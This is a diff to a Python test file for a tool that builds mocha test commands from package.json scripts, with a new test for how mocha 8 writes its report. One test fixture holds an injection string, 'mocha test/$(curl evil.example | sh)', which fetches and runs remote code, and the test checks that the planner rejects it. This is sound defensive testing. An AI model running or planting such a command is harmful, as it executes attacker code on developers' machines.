@@ -57,14 +57,14 @@ def test_the_mocha_test_command_carries_the_scripts_arguments(language):
     manifest = {"scripts": {"test": "nyc mocha --throw-deprecation test/*.test.js"}, "devDependencies": {"mocha": "^10"}}
     plan = plan_language(load_language(language), ["package.json"], {"package.json": json.dumps(manifest)})
     assert plan.framework == "mocha"
-    assert plan.test_command == f"npx --no-install mocha --throw-deprecation test/*.test.js {MOCHA_REPORT}"
+    assert plan.test_command.startswith(f"npx --no-install mocha --throw-deprecation test/*.test.js {MOCHA_REPORT} ")
     assert plan.facts()["mocha_args"] == "--throw-deprecation test/*.test.js"
 
 
 def test_an_unsafe_script_leaves_mocha_to_its_own_defaults():
     manifest = {"scripts": {"test": "mocha test/$(curl evil.example | sh)"}, "devDependencies": {"mocha": "^10"}}
     plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
-    assert plan.test_command == f"npx --no-install mocha  {MOCHA_REPORT}"
+    assert plan.test_command.startswith(f"npx --no-install mocha  {MOCHA_REPORT} ")
     assert "mocha_args" not in plan.facts()
 
 
@@ -72,3 +72,12 @@ def test_an_unsafe_script_leaves_mocha_to_its_own_defaults():
 def test_a_package_json_without_usable_scripts_gives_no_arguments(text):
     planned = node.plan({"package.json": text}, "")
     assert (planned.context, planned.facts) == ({"script_args": {}}, {})
+
+
+def test_mocha_before_9_has_its_stdout_kept_as_the_report():
+    # mocha 8 ignores `--reporter-option output=` and prints the JSON among the tests' output
+    manifest = {"scripts": {"test": "mocha"}, "devDependencies": {"mocha": "^8.4.0"}}
+    plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
+    assert ("> /tmp/envmine-mocha.out; rc=$?; [ -s /tmp/envmine-results/mocha.json ] || "
+            "cp /tmp/envmine-mocha.out /tmp/envmine-results/mocha.json;") in plan.test_command
+    assert plan.test_command.endswith("exit $rc")
